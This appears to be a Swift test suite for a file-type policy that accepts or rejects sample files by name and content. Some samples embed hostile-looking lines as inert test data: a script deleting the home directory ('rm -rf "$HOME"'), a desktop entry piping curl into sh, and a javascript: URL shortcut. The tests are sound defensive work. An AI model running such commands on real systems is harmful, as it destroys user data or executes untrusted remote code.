import Foundation
import Testing

@testable import UniformTypes

/// What a sample should get: accepted or not, the type taken, the rule that decided.
struct Expected: Sendable, CustomStringConvertible {
  var accepted: Bool
  var type: TypeIdentifier
  var rule: Verdict.Rule

  static func accept(_ type: TypeIdentifier) -> Expected { Expected(accepted: true, type: type, rule: .accepted) }
  static func reject(_ type: TypeIdentifier, _ rule: Verdict.Rule) -> Expected {
    Expected(accepted: false, type: type, rule: rule)
  }

  var description: String { "\(accepted ? "accept" : "reject") \(type) by \(rule.rawValue)" }
}

/// One real file, written to disk by the test, with its expected verdict under the default
/// declarations and under `customDeclarations`.
struct Sample: Sendable, CustomTestStringConvertible {
  var name: String
  var bytes: @Sendable () throws -> [UInt8]
  var byDefault: Expected
  var byCustom: Expected

  init(
    _ name: String, _ bytes: @autoclosure @escaping @Sendable () throws -> [UInt8], _ byDefault: Expected,
    _ byCustom: Expected
  ) {
    self.name = name
    self.bytes = bytes
    self.byDefault = byDefault
    self.byCustom = byCustom
  }

  var testDescription: String { name.debugDescription }
}

/// A receiver that imports a `.note` type conforming to public.plain-text, accepts notes, PDFs
/// and plain text, and excludes images and executables (but not scripts or desktop entries).
let customDeclarationsText = """
  <?xml version="1.0" encoding="UTF-8"?>
  <!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
  <plist version="1.0">
  <dict>
    <key>UTImportedTypeDeclarations</key>
    <array>
      <dict>
        <key>UTTypeIdentifier</key><string>com.example.note</string>
        <key>UTTypeDescription</key><string>Example note</string>
        <key>UTTypeConformsTo</key><string>public.plain-text</string>
        <key>UTTypeTagSpecification</key>
        <dict>
          <key>public.filename-extension</key><string>note</string>
          <key>public.mime-type</key><array><string>text/x-example-note</string></array>
        </dict>
      </dict>
    </array>
    <key>CFBundleDocumentTypes</key>
    <array>
      <dict>
        <key>CFBundleTypeName</key><string>Notes</string>
        <key>LSItemContentTypes</key><array><string>com.example.note</string></array>
      </dict>
      <dict>
        <key>CFBundleTypeName</key><string>Documents</string>
        <key>LSItemContentTypes</key><array><string>com.adobe.pdf</string><string>public.plain-text</string></array>
      </dict>
      <dict>
        <key>CFBundleTypeName</key><string>Folders</string>
        <key>LSItemContentTypes</key><array><string>public.folder</string></array>
      </dict>
    </array>
    <key>ExcludedActivityTypes</key>
    <array>
      <string>public.image</string>
      <string>public.executable</string>
    </array>
  </dict>
  </plist>

  """

let note: TypeIdentifier = "com.example.note"
let docxID: TypeIdentifier = "org.openxmlformats.wordprocessingml.document"
let pptxID: TypeIdentifier = "org.openxmlformats.presentationml.presentation"
let pptmID: TypeIdentifier = "org.openxmlformats.presentationml.presentation.macroenabled"
let xlaID: TypeIdentifier = "com.microsoft.excel.xla"
let plasmaID: TypeIdentifier = "org.kde.plasma-package"
let tarZstID: TypeIdentifier = "com.facebook.zstandard-tar-archive"

let samples: [Sample] = [
  // Images, documents, media: accepted by default; images excluded by the custom file.
  Sample("photo.png", SampleBytes.png, .accept("public.png"), .reject("public.png", .excludedContent)),
  Sample("photo.JPG", SampleBytes.jpeg, .accept("public.jpeg"), .reject("public.jpeg", .excludedContent)),
  Sample("anim.gif", SampleBytes.gif, .accept("com.compuserve.gif"), .reject("com.compuserve.gif", .excludedContent)),
  Sample("scan.tiff", SampleBytes.tiff, .accept("public.tiff"), .reject("public.tiff", .excludedContent)),
  Sample("live.heic", SampleBytes.heic, .accept("public.heic"), .reject("public.heic", .excludedContent)),
  Sample("pic.webp", SampleBytes.webp, .accept("org.webmproject.webp"), .reject("org.webmproject.webp", .excludedContent)),
  Sample("drawing.svg", SampleBytes.svg, .accept("public.svg-image"), .reject("public.svg-image", .excludedContent)),
  Sample("paper.pdf", SampleBytes.pdf, .accept("com.adobe.pdf"), .accept("com.adobe.pdf")),
  Sample("song.mp3", SampleBytes.mp3, .accept("public.mp3"), .reject("public.mp3", .notAccepted)),
  Sample("voice.m4a", SampleBytes.m4a, .accept("public.mpeg-4-audio"), .reject("public.mpeg-4-audio", .notAccepted)),
  Sample("clip.mp4", SampleBytes.mp4, .accept("public.mpeg-4"), .reject("public.mpeg-4", .notAccepted)),
  Sample("sound.wav", SampleBytes.wav, .accept("com.microsoft.waveform-audio"), .reject("com.microsoft.waveform-audio", .notAccepted)),
  // Office documents.
  Sample("report.docx", SampleBytes.docx, .accept(docxID), .reject(docxID, .notAccepted)),
  Sample(
    "table.xlsx", SampleBytes.xlsx, .accept("org.openxmlformats.spreadsheetml.sheet"),
    .reject("org.openxmlformats.spreadsheetml.sheet", .notAccepted)),
  Sample(
    "letter.odt", SampleBytes.odt, .accept("org.oasis-open.opendocument.text"), .reject("org.oasis-open.opendocument.text", .notAccepted)),
  Sample("old.doc", SampleBytes.oleHeader, .accept("com.microsoft.word.doc"), .reject("com.microsoft.word.doc", .notAccepted)),
  Sample("letter.rtf", SampleBytes.rtf, .accept("public.rtf"), .reject("public.rtf", .notAccepted)),
  Sample(
    "budget.csv", SampleBytes.utf8("name,amount\nrent,900\nfood,300\n"), .accept("public.comma-separated-values-text"),
    .reject("public.comma-separated-values-text", .notAccepted)),
  // A zip named .docx is not a Word document but a harmless ZIP: its content decides. An ELF
  // named .docx is an executable.
  Sample("fake.docx", SampleBytes.plainZip, .accept("public.zip-archive"), .reject("public.zip-archive", .notAccepted)),
  Sample(
    "evil.docx", try SampleBytes.elf(), .reject("public.unix-executable", .excludedContent),
    .reject("public.unix-executable", .excludedContent)),
  // Archives.
  Sample("files.zip", SampleBytes.plainZip, .accept("public.zip-archive"), .reject("public.zip-archive", .notAccepted)),
  Sample(
    "notes.txt.gz", SampleBytes.gzip(SampleBytes.utf8("hello\n")), .accept("org.gnu.gnu-zip-archive"),
    .reject("org.gnu.gnu-zip-archive", .notAccepted)),
  Sample(
    "backup.tar", SampleBytes.tar([("hello.txt", SampleBytes.utf8("hello\n"))]), .accept("public.tar-archive"),
    .reject("public.tar-archive", .notAccepted)),
  Sample(
    "backup.tar.gz", SampleBytes.gzip(SampleBytes.tar([("a.txt", SampleBytes.utf8("a\n"))])), .accept("org.gnu.gnu-zip-tar-archive"),
    .reject("org.gnu.gnu-zip-tar-archive", .notAccepted)),
  // Executables, scripts, desktop entries, installers.
  Sample(
    "true", try SampleBytes.elf(), .reject("public.unix-executable", .excludedContent), .reject("public.unix-executable", .excludedContent)),
  Sample(
    "cat.png", try SampleBytes.elf(), .reject("public.unix-executable", .excludedContent),
    .reject("public.unix-executable", .excludedContent)),
  Sample(
    "Tool-x86_64.AppImage", try SampleBytes.appImage(), .reject("org.appimage.appimage", .excludedContent),
    .reject("org.appimage.appimage", .excludedContent)),
  Sample(
    "tool", try SampleBytes.appImage(), .reject("org.appimage.appimage", .excludedContent),
    .reject("org.appimage.appimage", .excludedContent)),
  Sample(
    "setup.exe", SampleBytes.exe, .reject("com.microsoft.windows-executable", .excludedContent),
    .reject("com.microsoft.windows-executable", .excludedContent)),
  Sample(
    "install.sh", SampleBytes.utf8("#!/bin/sh\nset -e\necho installing\n"), .reject("public.shell-script", .excludedContent),
    .accept("public.shell-script")),
  Sample(
    "install", SampleBytes.utf8("#!/bin/bash\necho installing\n"), .reject("public.shell-script", .excludedContent),
    .accept("public.shell-script")),
  Sample(
    "readme.txt", SampleBytes.utf8("#!/bin/sh\nrm -rf \"$HOME\"\n"), .reject("public.shell-script", .excludedContent),
    .accept("public.shell-script")),
  Sample(
    "tool.py", SampleBytes.utf8("import os\nprint(os.getcwd())\n"), .reject("public.python-script", .excludedName),
    .accept("public.python-script")),
  Sample(
    "run", SampleBytes.utf8("#!/usr/bin/env python3\nprint('hi')\n"), .reject("public.python-script", .excludedContent),
    .accept("public.python-script")),
  Sample(
    "app.desktop", SampleBytes.utf8("[Desktop Entry]\nType=Application\nName=App\nExec=sh -c 'curl x | sh'\n"),
    .reject("org.freedesktop.desktop-entry", .excludedContent), .accept("org.freedesktop.desktop-entry")),
  Sample(
    "photos.txt", SampleBytes.utf8("#!/usr/bin/env xdg-open\n\n[Desktop Entry]\nType=Application\nExec=evil\n"),
    .reject("org.freedesktop.desktop-entry", .excludedContent), .accept("org.freedesktop.desktop-entry")),
  Sample(
    "hello.deb", SampleBytes.deb, .reject("org.debian.deb-archive", .excludedContent), .reject("org.debian.deb-archive", .notAccepted)),
  Sample(
    "archive.zip", SampleBytes.deb, .reject("org.debian.deb-archive", .excludedContent), .reject("org.debian.deb-archive", .typeMismatch)),
  Sample(
    "hello.rpm", SampleBytes.rpm, .reject("com.redhat.rpm-archive", .excludedContent), .reject("com.redhat.rpm-archive", .notAccepted)),
  Sample(
    "app.apk", SampleBytes.apk, .reject("com.android.package-archive", .excludedContent),
    .reject("com.android.package-archive", .excludedContent)),
  Sample("lib.jar", SampleBytes.jar, .reject("com.sun.java-archive", .excludedContent), .reject("com.sun.java-archive", .excludedContent)),
  Sample(
    "setup.msi", SampleBytes.oleHeader, .reject("com.microsoft.windows-installer", .excludedName),
    .reject("com.microsoft.windows-installer", .excludedName)),
  Sample("app.snap", SampleBytes.squashfs, .reject("io.snapcraft.snap", .excludedName), .reject("io.snapcraft.snap", .notAccepted)),
  Sample(
    "app.flatpakref", SampleBytes.utf8("[Flatpak Ref]\nName=org.example.App\nUrl=https://example.org/repo\n"),
    .reject("org.flatpak.flatpakref", .excludedContent), .accept("org.flatpak.flatpakref")),
  Sample(
    "driver.run", SampleBytes.utf8("#!/bin/sh\n# This script was generated using Makeself 2.4.0\nexit 0\n"),
    .reject("public.shell-script", .excludedContent), .accept("public.run-installer")),
  // Macro carriers, launchers and installers refused by name (or content), beside their everyday
  // neighbours, which stay accepted.
  Sample("slides.sldm", SampleBytes.sldm, .reject(pptmID, .excludedContent), .reject(pptmID, .notAccepted)),
  // Review 16: an OpenDocument file with a Basic library is as macro-enabled as a docm.
  Sample(
    "letter.odt", SampleBytes.odtWithBasic, .reject(.openDocumentMacros, .excludedContent),
    .reject(.openDocumentMacros, .typeMismatch)),
  Sample("slides.pptx", SampleBytes.pptx, .accept(pptxID), .reject(pptxID, .notAccepted)),
  Sample("addin.xla", SampleBytes.oleHeader, .reject(xlaID, .excludedName), .reject(xlaID, .notAccepted)),
  Sample("macros.xlm", SampleBytes.oleHeader, .reject(xlaID, .excludedName), .reject(xlaID, .notAccepted)),
  Sample("old.xls", SampleBytes.oleHeader, .accept("com.microsoft.excel.xls"), .reject("com.microsoft.excel.xls", .notAccepted)),
  Sample(
    "sheet.slk", SampleBytes.utf8("ID;PWXL;N;E\nC;Y1;X1;K\"hello\"\nE\n"), .reject("com.microsoft.excel.sylk", .excludedName),
    .accept("com.microsoft.excel.sylk")),
  Sample(
    "prices.iqy", SampleBytes.utf8("WEB\n1\nhttp://example.org/q?x=1\n"), .reject("com.microsoft.excel.query", .excludedName),
    .accept("com.microsoft.excel.query")),
  Sample(
    "launch.jnlp", SampleBytes.utf8("<?xml version=\"1.0\"?>\n<jnlp spec=\"1.0+\"><application-desc main-class=\"Main\"/></jnlp>\n"),
    .reject("com.sun.java-web-start", .excludedContent), .reject("com.sun.java-web-start", .excludedContent)),
  Sample(
    "Docs.library-ms", SampleBytes.utf8("<?xml version=\"1.0\"?>\n<libraryDescription><name>Docs</name></libraryDescription>\n"),
    .reject("com.microsoft.windows-xml-shortcut", .excludedName), .reject("com.microsoft.windows-xml-shortcut", .excludedName)),
  Sample(
    "addin.wll", SampleBytes.exe, .reject("com.microsoft.windows-executable", .excludedContent),
    .reject("com.microsoft.windows-executable", .excludedContent)),
  Sample(
    "tool.tcl", SampleBytes.utf8("puts \"hello\"\n"), .reject("public.tcl-script", .excludedName), .accept("public.tcl-script")),
  Sample(
    "tool.txt", SampleBytes.utf8("#!/usr/bin/tclsh\nputs hello\n"), .reject("public.tcl-script", .excludedContent),
    .accept("public.tcl-script")),
  Sample(
    "addon.xpi", SampleBytes.plainZip, .reject("org.mozilla.xpinstall", .excludedName), .reject("org.mozilla.xpinstall", .notAccepted)),
  Sample("clock.plasmoid", SampleBytes.plainZip, .reject(plasmaID, .excludedName), .reject(plasmaID, .notAccepted)),
  Sample(
    "clock.gadget", SampleBytes.plainZip, .reject("com.microsoft.windows-gadget", .excludedName),
    .reject("com.microsoft.windows-gadget", .notAccepted)),
  Sample(
    "tool-1.0-1-x86_64.pkg.tar.zst", SampleBytes.zstd, .reject("org.archlinux.package", .excludedName),
    .reject("org.archlinux.package", .notAccepted)),
  Sample("backup.tar.zst", SampleBytes.zstd, .accept(tarZstID), .reject(tarZstID, .notAccepted)),
  Sample("Roboto.ttf", SampleBytes.ttf, .accept("public.truetype-ttf-font"), .reject("public.truetype-ttf-font", .notAccepted)),
  Sample("debian.iso", SampleBytes.iso, .accept("public.iso-image"), .reject("public.iso-image", .notAccepted)),
  // Siblings of refused kinds (outside review), and their everyday neighbours: a ZIP, tar or cabinet
  // under a package's name is refused by its name; a OneNote section stays accepted (.ts video:
  // TypePolicyTests).
  Sample(
    "tool-1.0-py3-none-any.whl", SampleBytes.plainZip, .reject("org.python.package", .excludedName),
    .reject("org.python.package", .notAccepted)),
  Sample(
    "App.msixbundle", SampleBytes.plainZip, .reject("com.microsoft.msix-package", .excludedName),
    .reject("com.microsoft.msix-package", .notAccepted)),
  Sample("App.ipa", SampleBytes.plainZip, .reject("com.apple.itunes.ipa", .excludedName), .reject("com.apple.itunes.ipa", .notAccepted)),
  Sample("ext.vsix", SampleBytes.plainZip, .reject("com.microsoft.vsix", .excludedName), .reject("com.microsoft.vsix", .notAccepted)),
  Sample(
    "ext.crx", SampleBytes.crx, .reject("com.google.chrome-extension", .excludedContent),
    .reject("com.google.chrome-extension", .notAccepted)),
  Sample(
    "tool-1.0.gem", SampleBytes.tar([("metadata.gz", [0x1F, 0x8B])]), .reject("org.rubygems.gem", .excludedName),
    .reject("org.rubygems.gem", .notAccepted)),
  Sample(
    "fix.mst", SampleBytes.oleHeader, .reject("com.microsoft.windows-installer", .excludedName),
    .reject("com.microsoft.windows-installer", .excludedName)),
  Sample(
    "driver.inf", SampleBytes.inf, .reject("com.microsoft.setup-information", .excludedContent),
    .accept("com.microsoft.setup-information")),
  Sample(
    "driver.txt", SampleBytes.inf, .reject("com.microsoft.setup-information", .excludedContent),
    .accept("com.microsoft.setup-information")),
  Sample(
    "office.rdp", SampleBytes.utf8("full address:s:files.example.org\r\ndrivestoredirect:s:*\r\n"),
    .reject("com.microsoft.remote-desktop-connection", .excludedName), .reject("com.microsoft.remote-desktop-connection", .excludedName)),
  Sample("notebook.one", SampleBytes.random(count: 4096), .accept("com.microsoft.onenote"), .reject("com.microsoft.onenote", .notAccepted)),
  // Link files are judged by the URL they hold, as a URL item is (more in LinkFileTests).
  Sample(
    "site.url", SampleBytes.utf8("[InternetShortcut]\r\nURL=https://example.org/\r\n"), .accept("com.microsoft.internet-shortcut"),
    .accept("com.microsoft.internet-shortcut")),
  Sample(
    "evil.url", SampleBytes.utf8("[InternetShortcut]\r\nURL=javascript:alert(1)\r\n"),
    .reject("com.microsoft.internet-shortcut", .invalidLink),
    .reject("com.microsoft.internet-shortcut", .invalidLink)),
  Sample("photos.7z", SampleBytes.sevenZip, .accept("org.7-zip.7-zip-archive"), .reject("org.7-zip.7-zip-archive", .notAccepted)),
  // Text.
  Sample(
    "notes.txt", SampleBytes.utf8("Buy milk.\nCall Anna about the trip to Lisbon.\n"), .accept("public.plain-text"),
    .accept("public.plain-text")),
  Sample(
    "accents.txt", SampleBytes.utf8("Crème brûlée, smørrebrød, Straße, 東京.\n"), .accept("public.plain-text"), .accept("public.plain-text")),
  Sample(
    "wide.txt", SampleBytes.utf16LE("Hello in UTF-16, with a byte-order mark.\n"), .accept("public.plain-text"),
    .accept("public.plain-text")),
  Sample(
    "page.html", SampleBytes.utf8("<!DOCTYPE html>\n<html><head><title>x</title></head><body><p>Hi</p></body></html>\n"),
    .accept("public.html"), .reject("public.html", .notAccepted)),
  Sample(
    "data.json", SampleBytes.utf8("{\"name\": \"share\", \"tags\": [1, 2, 3]}\n"), .accept("public.json"),
    .reject("public.json", .notAccepted)),
  Sample(
    "feed.xml", SampleBytes.utf8("<?xml version=\"1.0\"?>\n<feed><title>t</title></feed>\n"), .accept("public.xml"),
    .reject("public.xml", .notAccepted)),
  Sample(
    "README.md", SampleBytes.utf8("# share\n\nAirDrop for Linux, from the terminal.\n"), .accept("net.daringfireball.markdown"),
    .accept("net.daringfireball.markdown")),
  Sample(
    "main.c", SampleBytes.utf8("#include <stdio.h>\nint main(void) { puts(\"hi\"); return 0; }\n"), .accept("public.c-source"),
    .accept("public.c-source")),
  Sample(
    "card.vcf", SampleBytes.utf8("BEGIN:VCARD\nVERSION:3.0\nFN:Anna\nEND:VCARD\n"), .accept("public.vcard"),
    .reject("public.vcard", .notAccepted)),
  Sample("todo", SampleBytes.utf8("Water the plants.\nCall the landlord.\n"), .accept("public.plain-text"), .accept("public.plain-text")),
  Sample("empty.txt", [], .accept("public.plain-text"), .accept("public.plain-text")),
  Sample("empty", [], .accept("public.plain-text"), .accept("public.plain-text")),
  // Unnamed binary data: the default's "Other files" accepts it, the custom file does not.
  Sample("noise.bin", SampleBytes.random(count: 4096), .accept("public.data"), .reject("public.data", .notAccepted)),
  Sample("noise", SampleBytes.random(count: 4096), .accept("public.data"), .reject("public.data", .notAccepted)),
  Sample("blob.txt", SampleBytes.random(count: 4096), .accept("public.data"), .reject("public.data", .notAccepted)),
  // Name and content disagree harmlessly: the content decides. A disguise is in TypePolicyTests.
  Sample("paper.png", SampleBytes.pdf, .accept("com.adobe.pdf"), .reject("public.png", .excludedName)),
  Sample("really-a-png.jpg", SampleBytes.png, .accept("public.png"), .reject("public.png", .excludedContent)),
  Sample("movie.mp3", SampleBytes.mp4, .accept("public.mpeg-4"), .reject("public.mpeg-4", .notAccepted)),
  Sample(
    "plain.tar.gz", SampleBytes.tar([("a.txt", SampleBytes.utf8("a\n"))]), .accept("public.tar-archive"),
    .reject("public.tar-archive", .notAccepted)),
  // The custom type.
  Sample("meeting.note", SampleBytes.utf8("Meeting notes: ship it.\n"), .accept("public.plain-text"), .accept(note)),
  Sample("sneaky.note", SampleBytes.png, .accept("public.png"), .reject("public.png", .excludedContent)),
]

@Suite("Verdicts on real sample files")
struct VerdictTableTests {
  static let registry = TypeRegistry.system()
  static let defaultPolicy = Result { try TypePolicy(registry: registry, declarations: .builtinDefault) }
  static let customPolicy = Result {
    try TypePolicy(registry: registry, declarations: Declarations.parse(Data(customDeclarationsText.utf8), source: "custom.plist"))
  }
  static let sniffer = Result { try ContentSniffer() }

  /// Writes `sample` to a fresh file and checks it from disk.
  func check(_ sample: Sample, _ policy: TypePolicy) throws -> CheckReport {
    try policy.check(writing: try sample.bytes(), as: sample.name, sniffer: try Self.sniffer.get())
  }

  @Test("the default declarations judge each sample as expected", arguments: samples)
  func defaultVerdict(_ sample: Sample) throws {
    let report = try check(sample, try Self.defaultPolicy.get())
    let verdict = report.verdict
    #expect(
      verdict.accepted == sample.byDefault.accepted && verdict.type == sample.byDefault.type
        && verdict.rule == sample.byDefault.rule,
      "expected \(sample.byDefault), got \(verdict.accepted ? "accept" : "reject") \(verdict.type) by \(verdict.rule.rawValue): \(verdict.reason) [magic: \(report.content?.mimeType ?? "-")]"
    )
    #expect(verdict.reason.hasPrefix(verdict.accepted ? "accepted: " : "rejected: "))
  }

  @Test("a custom file importing .note and excluding images judges each sample as expected", arguments: samples)
  func customVerdict(_ sample: Sample) throws {
    let report = try check(sample, try Self.customPolicy.get())
    let verdict = report.verdict
    #expect(
      verdict.accepted == sample.byCustom.accepted && verdict.type == sample.byCustom.type
        && verdict.rule == sample.byCustom.rule,
      "expected \(sample.byCustom), got \(verdict.accepted ? "accept" : "reject") \(verdict.type) by \(verdict.rule.rawValue): \(verdict.reason) [magic: \(report.content?.mimeType ?? "-")]"
    )
  }

  @Test("a rejected name-stage verdict is never followed by an accepted content verdict")
  func nameRejectionIsFinal() throws {
    for policy in [try Self.defaultPolicy.get(), try Self.customPolicy.get()] {
      for sample in samples {
        let report = try check(sample, policy)
        if !report.nameVerdict.accepted {
          #expect(!report.verdict.accepted, "\(sample.name): name rejected but content accepted")
        }
      }
    }
  }
}
